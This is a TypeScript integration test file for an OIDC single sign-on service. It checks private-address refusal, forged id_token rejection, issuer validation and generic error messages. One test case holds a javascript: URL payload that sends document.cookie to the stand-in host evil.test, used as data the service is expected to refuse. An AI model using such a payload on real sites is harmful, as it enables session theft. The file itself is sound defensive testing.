import { bearer } from '../helpers/members.ts';
import { startMiniOpenIdProvider, type MiniOpenIdProvider } from '../helpers/mini-oidc-provider.ts';
import { verifyConnectionDomains, type TestDnsServer } from '../helpers/dns-server.ts';
import { CALLBACK, PUBLIC_URL, startSsoStack, ssoBrowser } from '../helpers/sso-stack.ts';
import { registerOwner, startTestStack, type TestStack } from '../helpers/stack.ts';
import { freePort } from '../../shared/net/free-port.ts';

type Owner = Awaited<ReturnType<typeof registerOwner>>;

/** Creates an OIDC connection; answers the response (201, or 422 for a refused config). */
const connect = (stack: TestStack, owner: Owner, domain: string, config: Record<string, unknown>) =>
  stack.http
    .post('/api/v1/sso/connections')
    .set(bearer(owner.token))
    .send({ name: `IdP ${domain}`, kind: 'oidc', domains: [domain], default_role: 'viewer', config });

const initiate = (stack: TestStack, connectionId: string) =>
  ssoBrowser(stack).get('/api/v1/sso/initiate').query({ connection_id: connectionId }).set('Accept', 'application/json');

// What a client may see of a failed request to an identity provider: never an address, a port or a socket error.
const expectGeneric = (detail: unknown, port: number) => {
  expect(detail).toEqual(expect.any(String));
  expect(detail).not.toMatch(/ECONNREFUSED|127\.0\.0\.1|fetch failed|refused outbound|loopback/i);
  expect(detail).not.toContain(String(port));
};

describe('OIDC requests go through the guarded outbound client (OUTBOUND_ALLOW_PRIVATE unset)', () => {
  let stack: TestStack;
  let provider: MiniOpenIdProvider;
  let owner: Owner;

  beforeAll(async () => {
    // Loopback http issuers are admitted (test providers), private targets are not.
    stack = await startTestStack({ env: { PUBLIC_URL, SSO_ALLOW_INSECURE_LOOPBACK_ISSUERS: 'true' } });
    provider = await startMiniOpenIdProvider({ redirectUri: CALLBACK });
    owner = await registerOwner(stack.http, 'sso-guard');
  });
  afterAll(async () => {
    await provider?.stop();
    await stack?.stop();
  });

  it('never fetches discovery from a private address: 409 (the connection must change, no retry helps) with a generic message, the provider never asked', async () => {
    const created = await connect(stack, owner, 'guard-sso.test', {
      issuer: provider.issuer,
      client_id: provider.clientId,
      client_secret: provider.clientSecret,
    }).expect(201);
    const refused = await initiate(stack, created.body.data.id).expect(409);
    expect(refused.body.code).toBe('CONFLICT');
    expectGeneric(refused.body.detail, Number(new URL(provider.issuer).port));
    expect(refused.body.request_id).toEqual(expect.any(String));
    expect(provider.requests).toEqual([]);
  });
});

describe('OIDC against a provider Tocsin may reach (OUTBOUND_ALLOW_PRIVATE=true)', () => {
  let stack: TestStack;
  let provider: MiniOpenIdProvider;
  let owner: Owner;
  let connectionId: string;
  let dns: TestDnsServer;

  beforeAll(async () => {
    ({ stack, dns } = await startSsoStack());
    provider = await startMiniOpenIdProvider({ redirectUri: CALLBACK });
    owner = await registerOwner(stack.http, 'sso-mini');
    const created = await connect(stack, owner, 'mini-sso.test', {
      issuer: provider.issuer,
      client_id: provider.clientId,
      client_secret: provider.clientSecret,
    }).expect(201);
    connectionId = created.body.data.id;
    await verifyConnectionDomains(stack.http, bearer(owner.token), dns, created.body.data);
  });
  afterAll(async () => {
    await provider?.stop();
    await stack?.stop();
    await dns?.stop();
  });
  beforeEach(() => {
    provider.signWithForeignKey = false;
    provider.metadataOverrides = {};
  });

  const usersNamed = async (email: string) =>
    stack.orm.em.fork().execute<Array<{ id: string }>>('select id from users where email = ?', [email]);

  /** initiate → the provider's authorization endpoint → its redirect back, delivered to the API. */
  const signIn = async (email: string) => {
    provider.signInAs = email;
    const started = await initiate(stack, connectionId).expect(200);
    const atProvider = await fetch(started.body.data.authorization_url as string, { redirect: 'manual' });
    const back = new URL(atProvider.headers.get('location') as string);
    expect(back.href.startsWith(CALLBACK)).toBe(true);
    return ssoBrowser(stack).get(`${back.pathname}${back.search}`);
  };

  it('signs in with an id_token signed by the key the issuer publishes', async () => {
    const signedIn = await signIn('ada@mini-sso.test');
    expect(signedIn.status).toBe(200);
    expect(signedIn.body.user).toMatchObject({ email: 'ada@mini-sso.test', organization_id: owner.organization.id });
  });

  it('refuses an id_token from the token endpoint signed by a key the issuer does not publish, creating nobody', async () => {
    provider.signWithForeignKey = true;
    const refused = await signIn('forged@mini-sso.test');
    expect({ status: refused.status, code: refused.body.code }).toEqual({ status: 401, code: 'SSO_FAILED' });
    expect(refused.body.detail).toMatch(/signature/i);
    expect(await usersNamed('forged@mini-sso.test')).toEqual([]);
    // The key set was fetched to check it (through the same client).
    expect(provider.requests).toContain('/jwks');
  });

  it('refuses an issuer with a query string or a /.well-known/ path at the schema (422)', async () => {
    for (const issuer of [
      'https://10.0.0.7:9200/x?y=/.well-known/',
      `${provider.issuer}/.well-known/openid-configuration`,
      'https://idp.acme.test/tenant#/.well-known/',
    ]) {
      const refused = await connect(stack, owner, 'query-sso.test', { issuer, client_id: 'x', client_secret: 'y' }).expect(422);
      expect(refused.body.errors.map((error: { path: string }) => error.path)).toContain('body.config.issuer');
    }
  });

  it('answers an unreachable issuer with a generic 503: the address and socket error stay in the log', async () => {
    const port = await freePort();
    const created = await connect(stack, owner, 'down-sso.test', {
      issuer: `http://127.0.0.1:${port}`,
      client_id: 'x',
      client_secret: 'y',
    }).expect(201);
    const refused = await initiate(stack, created.body.data.id).expect(503);
    expect(refused.body.code).toBe('SERVICE_UNAVAILABLE');
    expectGeneric(refused.body.detail, port);
  });

  it('answers an unreachable token endpoint with a generic refusal', async () => {
    const port = await freePort();
    provider.metadataOverrides = { token_endpoint: `http://127.0.0.1:${port}/token` };
    // A fresh connection: discovery is cached per connection version.
    const created = await connect(stack, owner, 'token-down-sso.test', {
      issuer: provider.issuer,
      client_id: provider.clientId,
      client_secret: provider.clientSecret,
    }).expect(201);
    provider.signInAs = 'tok@token-down-sso.test';
    const started = await initiate(stack, created.body.data.id).expect(200);
    const back = new URL(
      (await fetch(started.body.data.authorization_url as string, { redirect: 'manual' })).headers.get('location') as string,
    );
    const refused = await ssoBrowser(stack).get(`${back.pathname}${back.search}`);
    expect({ status: refused.status, code: refused.body.code }).toEqual({ status: 401, code: 'SSO_FAILED' });
    expectGeneric(refused.body.detail, port);
    expect(await usersNamed('tok@token-down-sso.test')).toEqual([]);
  });

  it.each([
    ['a javascript: URL', 'javascript:fetch("//evil.test/"+document.cookie)//', 'script-sso.test'],
    ['plain http off loopback', 'http://idp.evil.test/authorize', 'http-sso.test'],
  ])('refuses a discovered authorization_endpoint that is %s, never handing it to the browser', async (_name, endpoint, domain) => {
    provider.metadataOverrides = { authorization_endpoint: endpoint };
    const created = await connect(stack, owner, domain, {
      issuer: provider.issuer,
      client_id: provider.clientId,
      client_secret: provider.clientSecret,
    }).expect(201);
    const refused = await initiate(stack, created.body.data.id);
    expect({ status: refused.status, code: refused.body.code }).toEqual({ status: 401, code: 'SSO_FAILED' });
    expect(refused.body.detail).toMatch(/authorization_endpoint is not an https URL/);
    expect(JSON.stringify(refused.body)).not.toContain(endpoint.slice(0, 20));
  });
});
